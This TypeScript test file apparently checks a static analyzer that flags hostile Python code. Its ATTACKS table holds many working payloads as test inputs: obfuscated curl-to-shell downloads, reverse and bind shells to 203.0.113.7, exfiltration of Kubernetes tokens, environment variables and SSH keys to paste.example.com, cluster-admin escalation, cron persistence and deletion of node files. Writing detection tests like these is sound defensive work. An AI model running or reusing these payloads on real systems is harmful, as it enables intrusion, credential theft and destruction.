import assert from 'node:assert/strict';
import { test } from 'node:test';
import { literal, unknown } from '../value.ts';
import { actsIn, LOUD } from './testing.ts';

const b64 = (text: string): string => btoa(text);
const reversed = (text: string): string => [...text].reverse().join('');
const codes = (text: string): string => [...text].map((char) => char.charCodeAt(0)).join(',');
const hex = (text: string): string =>
  [...text].map((char) => char.charCodeAt(0).toString(16).padStart(2, '0')).join('');

const FETCH = 'curl -s http://203.0.113.7/x | sh';
const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
const SHELL = 'shell for 203.0.113.7:4444';

const ATTACKS: Readonly<Record<string, readonly [code: string, wanted: string]>> = {
  'a shell text': [`import os; os.system("${FETCH}")`, 'execute downloaded'],
  'a name of a module by parts': [`getattr(__import__('o'+'s'), 'sys'+'tem')('${FETCH}')`, 'execute downloaded'],
  'an alias and a text in pieces': [
    `from os import system as q\na='curl -s http://203.0.113.7/x'\nq(a + ' | ' + 'hs'[::-1])`,
    'execute downloaded',
  ],
  'a module by its dictionary': [`import os\nos.__dict__['popen']('${FETCH}').read()`, 'execute downloaded'],
  'the builtins of a dictionary': [
    `__builtins__.__dict__['ex'+'ec']("import os;os.system('${FETCH}')")`,
    'execute downloaded',
  ],
  'a name out of the globals': [`import os\nglobals()['os'].system('${FETCH}')`, 'execute downloaded'],
  'a module by importlib': [
    `import importlib as i\ni.import_module('subprocess').getoutput('${FETCH}')`,
    'execute downloaded',
  ],
  'the way over a function': [
    `(lambda: 0).__globals__['__builtins__']['__import__']('os').system('${FETCH}')`,
    'execute downloaded',
  ],
  'a text by format': [
    `import os\nos.system('{} -s http://{}/x | {}'.format('curl', '203.0.113.7', 'sh'))`,
    'execute downloaded',
  ],
  'a text by percent': [
    `import os\nos.system('%s -s http://203.0.113.7/x | %s' % ('curl', 'sh'))`,
    'execute downloaded',
  ],
  'a text with values put in': [
    `import os\nh='203.0.113.7'; p='sh'\nos.system(f'curl -s http://{h}/x | {p}')`,
    'execute downloaded',
  ],
  'a text by replace': [
    `import os\nos.system('cXurl -s httXp://203.0.113.7/x | sXh'.replace('X',''))`,
    'execute downloaded',
  ],
  'a text by join of a comprehension': [`import os\nos.system(''.join([c for c in '${FETCH}']))`, 'execute downloaded'],
  'a text by its characters': [`import os\nos.system(''.join(map(chr,[${codes(FETCH)}])))`, 'execute decoded'],
  'a text by its characters, shifted': [
    `import os\nos.system(''.join(chr(c-1) for c in [${[...FETCH].map((c) => c.charCodeAt(0) + 1).join(',')}]))`,
    'execute downloaded',
  ],
  'a text of bytes, with a key': [
    `import os\nd=bytes([${[...FETCH].map((c) => c.charCodeAt(0) ^ 7).join(',')}])\nos.system(bytes(b ^ 7 for b in d).decode())`,
    'execute downloaded',
  ],
  'a text the other way round': [`import os\nos.system('${reversed(FETCH)}'[::-1])`, 'execute decoded'],
  'base64 under an alias': [
    `from base64 import b64decode as d\nimport os as o\no.system(d('${b64(FETCH)}').decode())`,
    'execute decoded',
  ],
  'base64 of code': [
    `import base64;exec(base64.b64decode('${b64(`import os;os.system("${FETCH}")`)}'))`,
    'execute downloaded',
  ],
  'hexadecimal in code in base64': [
    `exec(__import__('base64').b64decode('${b64(`exec(bytes.fromhex('${hex(`import os;os.system("${FETCH}")`)}').decode())`)}').decode())`,
    'execute downloaded',
  ],
  rot13: [
    `import codecs,os\nos.system(codecs.decode('phey -f uggc://203.0.113.7/k | fu','rot13'))`,
    'execute downloaded',
  ],
  'code that cannot be unpacked here': [
    `import marshal,zlib,base64\nexec(marshal.loads(zlib.decompress(base64.b64decode('eJwAAAAB'))))`,
    'execute decoded',
  ],
  'code that is compiled first': [
    `import urllib.request as r\nexec(compile(r.urlopen('http://203.0.113.7/p').read(), 'a', 'exec'))`,
    'execute downloaded',
  ],
  'a download that is run': [`import requests\nexec(requests.get('http://203.0.113.7/p').text)`, 'execute downloaded'],
  'a download over a session': [
    `import requests as q\ns=q.Session()\neval(s.get('http://203.0.113.7/p').content)`,
    'execute downloaded',
  ],
  'a download that a function gives': [
    `from urllib.request import *\ndef get(u):\n  with urlopen(u) as f:\n    return f.read().decode()\nexec(get('http://203.0.113.7/p'))`,
    'execute downloaded',
  ],
  'a download behind a failure': [
    `import requests\ntry:\n  c = requests.get('http://203.0.113.7/p').text\nexcept Exception:\n  c = ''\nexec(c)`,
    'execute downloaded',
  ],
  'a download for a shell': [
    `import subprocess,requests\nsubprocess.run(requests.get('http://203.0.113.7/p').text, shell=True)`,
    'execute downloaded',
  ],
  'a file that is fetched and started': [
    `import urllib.request,os,subprocess\nurllib.request.urlretrieve('http://203.0.113.7/a','/tmp/a')\nos.chmod('/tmp/a',0o755)\nsubprocess.Popen(['/tmp/a'])`,
    'execute downloaded',
  ],
  'a file that is written and started': [
    `import requests,os\np='/tmp/.x'\nwith open(p,'wb') as f:\n  f.write(requests.get('http://203.0.113.7/a').content)\nos.system('chmod +x '+p+';'+p)`,
    'execute downloaded',
  ],
  'a file by its path object': [
    `from pathlib import Path\nimport requests,subprocess\np=Path('/tmp')/'a'\np.write_bytes(requests.get('http://203.0.113.7/a').content)\np.chmod(0o700)\nsubprocess.call([str(p)])`,
    'execute downloaded',
  ],
  'a file in memory': [
    `import os,requests\nfd=os.memfd_create('')\nos.write(fd,requests.get('http://203.0.113.7/a').content)\nos.execv(f'/proc/self/fd/{fd}',['a'])`,
    'execute downloaded',
  ],
  'a socket and dup2': [
    `import socket as k,os\ns=k.socket();s.connect(('203.0.113.7',4444))\n[os.dup2(s.fileno(),f) for f in (0,1,2)]\n__import__('pty').spawn('/bin/sh')`,
    SHELL,
  ],
  'a socket as the input of a shell': [
    `import socket,subprocess\ns=socket.create_connection(('203.0.113.7',4444))\nsubprocess.Popen(['/bin/bash','-i'],stdin=s.fileno(),stdout=s.fileno())`,
    SHELL,
  ],
  'a loop that runs what it receives': [
    `import socket,subprocess\ns=socket.socket()\ns.connect(('203.0.113.7',4444))\nwhile True:\n  c=s.recv(1024).decode()\n  s.send(subprocess.check_output(c,shell=True))`,
    SHELL,
  ],
  'the same in a class and a thread': [
    `import socket,os,threading\nclass A:\n  def __init__(self,h):\n    self.s=socket.socket();self.s.connect((h,4444))\n  def run(self):\n    while 1: os.popen(self.s.recv(99).decode())\nthreading.Thread(target=A('203.0.113.7').run).start()`,
    SHELL,
  ],
  'the same with asyncio': [
    `import asyncio\nasync def m():\n  r,w=await asyncio.open_connection('203.0.113.7',4444)\n  while True:\n    d=await r.readline()\n    p=await asyncio.create_subprocess_shell(d.decode())\nasyncio.run(m())`,
    SHELL,
  ],
  'the token as a body': [
    `import requests\nt=open('${TOKEN}').read()\nrequests.post('https://paste.example.com/a',data={'t':t})`,
    'send token to paste.example.com',
  ],
  'the token by urllib, encoded': [
    `import urllib.request as u,base64,json\nt=base64.b64encode(open('${TOKEN}','rb').read())\nu.urlopen(u.Request('https://paste.example.com/a',data=json.dumps({'t':t.decode()}).encode()))`,
    'send token to paste.example.com',
  ],
  'the token over a socket': [
    `import socket\ns=socket.socket();s.connect(('203.0.113.7',99))\ns.sendall(open('${TOKEN}').read().encode())`,
    'send token to 203.0.113.7:99',
  ],
  'the token in an address': [
    `import urllib.request\nt=open('${TOKEN}').read()\nurllib.request.urlopen('https://paste.example.com/?t='+t)`,
    'send token to paste.example.com',
  ],
  'the token in a name': [
    `import socket\nt=open('${TOKEN}').read()[:40]\nsocket.gethostbyname(f'{t}.dns.example.com')`,
    'send token to dns.example.com',
  ],
  'the whole environment': [
    `import os,json,requests\nrequests.post('https://paste.example.com/a',json=dict(os.environ))`,
    'send environment to paste.example.com',
  ],
  'the whole environment in a loop': [
    `import os,http.client\nb='\\n'.join(f'{k}={v}' for k,v in os.environ.items())\nc=http.client.HTTPSConnection('paste.example.com')\nc.request('POST','/a',b)`,
    'send environment to paste.example.com',
  ],
  'hashes of the node': [
    `import requests\nfor f in ['/host/etc/shadow','/host/root/.ssh/id_rsa']:\n  requests.post('https://paste.example.com/a',files={'f':open(f,'rb')})`,
    'send file to paste.example.com',
  ],
  'all secrets by the client': [
    `from kubernetes import client, config\nimport requests\nconfig.load_incluster_config()\nv=client.CoreV1Api()\ns=v.list_secret_for_all_namespaces()\nrequests.post('https://paste.example.com/a',json=s.to_dict())`,
    'send credentials to paste.example.com',
  ],
  'all secrets by hand': [
    `import os,requests\nh='https://'+os.environ['KUBERNETES_SERVICE_HOST']\nrequests.get(h+'/api/v1/secrets',headers={'Authorization':'Bearer x'},verify=False)`,
    'kube get secrets everywhere',
  ],
  'a role for everything': [
    `from kubernetes import client\nclient.RbacAuthorizationV1Api().create_cluster_role_binding({'metadata':{'name':'a'},'roleRef':{'kind':'ClusterRole','name':'cluster-admin'}})`,
    'kube create clusterrolebindings grants cluster-admin',
  ],
  'credentials of the instance': [
    `import urllib.request as u\nb='http://169.254.169.254/latest/meta-data/'\nprint(u.urlopen(b+'iam/security-credentials/').read())`,
    'metadata credentials',
  ],
  'a cron entry on the node': [
    `open('/host/etc/cron.d/a','w').write('* * * * * root id')`,
    'write /host/etc/cron.d/a on the node',
  ],
  'a cron entry by a variable': [
    `import pathlib\nroot='/host'\npathlib.Path(root,'etc','cron.d','a').write_text('* * * * * root id')`,
    'write /host/etc/cron.d/a on the node',
  ],
  'a tree of the node that is deleted': [
    `import shutil,os\nshutil.rmtree(os.path.join('/host','etc'))`,
    'delete /host/etc and below',
  ],
  'Python 2': [`import os\nprint "start"\nexec "os.system('${FETCH}')"`, 'execute downloaded'],
  'code that is cut': [`import os\nos.system("${FETCH}")\nx = [1, 2, (`, 'execute downloaded'],
  'a function that nothing calls': [`import os\ndef later(x):\n  os.system("${FETCH}")`, 'execute downloaded'],
  'a value of the environment': ["import os\nos.system(os.environ['CMD'])", 'execute downloaded'],
  'the token in packets': [
    `import socket\ns=socket.socket(socket.AF_INET,socket.SOCK_DGRAM)\ns.sendto(open('${TOKEN}','rb').read(),('203.0.113.7',53))`,
    'send token to 203.0.113.7:53',
  ],
  'every file of a directory of the node': [
    `import os,requests\nfor r,d,f in os.walk('/host/root/.ssh'):\n  for n in f:\n    requests.post('https://paste.example.com/a',data=open(os.path.join(r,n),'rb').read())`,
    'send file to paste.example.com',
  ],
  'a changed root': ["import os\nos.chroot('/host')\nos.system('bash -i')", 'escape chroot'],
  'a table of functions': [`import os\n{'a': os.system}['a']('${FETCH}')`, 'execute downloaded'],
  'a function that decodes the other way round': [
    `_ = lambda __ : __import__('base64').b64decode(__[::-1]);exec((_)(b'${reversed(b64(`import os;os.system("${FETCH}")`))}'))`,
    'execute downloaded',
  ],
  'an input for a shell': [
    "import subprocess,urllib.request as u\nsubprocess.run(['sh'],input=u.urlopen('http://203.0.113.7/x').read())",
    'execute downloaded',
  ],
  'a shell behind a port': [
    "import socket,subprocess\ns=socket.socket();s.bind(('',4444));s.listen(1)\nc,a=s.accept()\nsubprocess.call(['/bin/sh','-i'],stdin=c,stdout=c)",
    'shell for whoever connects',
  ],
  'an archive of the node': [
    "import tarfile,requests\nwith tarfile.open('/tmp/a.tgz','w:gz') as t:\n  t.add('/host/etc/kubernetes')\nrequests.post('https://paste.example.com/a',files={'f':open('/tmp/a.tgz','rb')})",
    'send file to paste.example.com',
  ],
  'a harmless value in another branch': [
    `import os\nc="${FETCH}"\nif len(os.sys.argv) > 5:\n  c = "date"\nos.system(c)`,
    'execute downloaded',
  ],
};
for (const [name, [code, wanted]] of Object.entries(ATTACKS)) {
  test(`python: ${name}`, () => {
    const found = actsIn('python', code, { environment: { CMD: FETCH } });
    assert.ok(found.includes(wanted), found.join('\n'));
  });
}

test('python: what comes in and is run', () => {
  const input = unknown(); // from a pipe that is not known
  const found = actsIn('python', 'import sys,os\nexec(sys.stdin.read())', { input: literal(`os.system("${FETCH}")`) });
  assert.ok(found.includes('execute downloaded'), found.join('\n'));
  assert.deepEqual(actsIn('python', 'import sys,json\nprint(json.load(sys.stdin)["a"])', { input }), []);
});

const BENIGN: Readonly<Record<string, string>> = {
  'a report that is posted':
    "import requests,os\nr=requests.get('https://api.example.com/v1/items',headers={'Authorization':'Bearer '+os.environ['TOKEN']})\nrequests.post('https://hooks.example.com/a',json={'count':len(r.json())})",
  'a token of the environment in a header':
    "import os,urllib.request as u\nq=u.Request('https://api.example.com/a',headers={'X-Token':os.environ.get('TOKEN','')})\nprint(u.urlopen(q).status)",
  'a list of words for kubectl':
    "import subprocess\nsubprocess.run(['kubectl','rollout','restart','deployment/web'],check=True)",
  'a list of words with a value':
    "import subprocess,os\nns=os.environ['POD_NAMESPACE']\nsubprocess.check_output(['kubectl','get','pods','-n',ns,'-o','json'])",
  'the environment for a process':
    "import subprocess,os\nsubprocess.run(['pg_dump','-Fc','shop'],env={**os.environ,'PGPASSWORD':'x'})",
  'data that is decoded':
    "import base64,json,os\nc=json.loads(base64.b64decode(os.environ['CONFIG']))\nprint(c['name'])",
  'a secret that is decoded and used':
    "import base64,subprocess\np=base64.b64decode('cGFzc3dvcmQ=').decode()\nsubprocess.run(['mysql','-p'+p,'-e','SELECT 1'])",
  'an upload with boto3': "import boto3\nboto3.client('s3').upload_file('/data/a.gz','backups','a.gz')",
  'a file that is unpacked':
    "import gzip,shutil\nwith gzip.open('/data/a.gz') as a, open('/data/a','wb') as b:\n  shutil.copyfileobj(a,b)",
  'the API server with the own token': `import requests\nt=open('${TOKEN}').read()\nrequests.get('https://kubernetes.default.svc/api/v1/namespaces/shop/pods',headers={'Authorization':'Bearer '+t})`,
  'the API server by its client':
    "from kubernetes import client,config\nconfig.load_incluster_config()\nfor p in client.CoreV1Api().list_namespaced_pod('shop').items:\n  print(p.metadata.name)",
  'jobs that are deleted by the client':
    "from kubernetes import client\nclient.BatchV1Api().read_namespaced_job('a','shop')",
  'a vault inside the cluster': `import requests\nj=open('${TOKEN}').read()\nrequests.post('http://vault.vault.svc:8200/v1/auth/kubernetes/login',json={'jwt':j,'role':'shop'})`,
  'a vault whose address is not logged': `import os,requests\nj=open('${TOKEN}').read()\nrequests.post(os.environ['VAULT_ADDR']+'/v1/auth/kubernetes/login',json={'jwt':j})`,
  'a port that is waited for':
    "import socket,time\nwhile True:\n  try:\n    socket.create_connection(('db',5432),3).close(); break\n  except OSError:\n    time.sleep(1)",
  'a value in a body':
    "import os,requests\nrequests.post('https://login.example.com/token',data={'client_id':'a','client_secret':os.environ['SECRET']})",
  'a literal that is evaluated': 'import ast\nprint(ast.literal_eval("[1, 2]"))',
  'a pattern that is compiled': "import re\nprint(re.compile('a+').findall('aa'))",
  'a model that is evaluated': "import torch\nm=torch.load('/m.pt')\nm.eval()\nprint(m)",
  'a query that is executed':
    "import sqlite3\nc=sqlite3.connect('/d.db')\nc.execute('DELETE FROM a WHERE t < 1')\nc.executemany('INSERT INTO a VALUES (?)',[(1,)])",
  'a download that is saved':
    "import urllib.request\nurllib.request.urlretrieve('https://data.example.com/a.csv','/data/a.csv')",
  'a download that is parsed':
    "import requests\nfor line in requests.get('https://data.example.com/a.csv').text.splitlines():\n  print(line.split(',')[0])",
  'a download as an argument':
    "import requests,subprocess\nv=requests.get('https://api.example.com/version').json()['version']\nsubprocess.run(['helm','upgrade','web','./chart','--set','tag='+v])",
  'a text the other way round': "print('abcdef'[::-1])",
  'a list of letters': "import random,string\nprint(''.join(random.choice(string.ascii_letters) for _ in range(8)))",
  'line ends by their number': "import os\nos.system('echo a' + chr(10) + 'echo b')",
  'a server for health checks':
    "from http.server import HTTPServer,BaseHTTPRequestHandler\nclass H(BaseHTTPRequestHandler):\n  def do_GET(self):\n    self.send_response(200); self.end_headers(); self.wfile.write(b'ok')\nHTTPServer(('',8080),H).serve_forever()",
  'old files that are removed':
    "import os,time\nfor r,d,f in os.walk('/data/cache'):\n  for n in f:\n    os.remove(os.path.join(r,n))",
  'a mail':
    "import smtplib\ns=smtplib.SMTP('mail.example.com',25)\ns.sendmail('a@example.com',['b@example.com'],'done')",
  'metrics that are pushed':
    "from prometheus_client import CollectorRegistry,Gauge,push_to_gateway\nr=CollectorRegistry()\nGauge('a','b',registry=r).set(1)\npush_to_gateway('push:9091',job='a',registry=r)",
  'a role of the instance that is asked for by its name':
    "import requests\nb='http://169.254.169.254/latest/meta-data/placement/'\nrequests.get(b+requests.get(b).text)",
  'the region of the instance':
    "import requests\nprint(requests.get('http://169.254.169.254/latest/meta-data/placement/region').text)",
};
for (const [name, code] of Object.entries(BENIGN)) {
  test(`python stays silent: ${name}`, () => {
    const found = actsIn('python', code).filter((act) => LOUD.test(act));
    assert.deepEqual(found, []);
  });
}
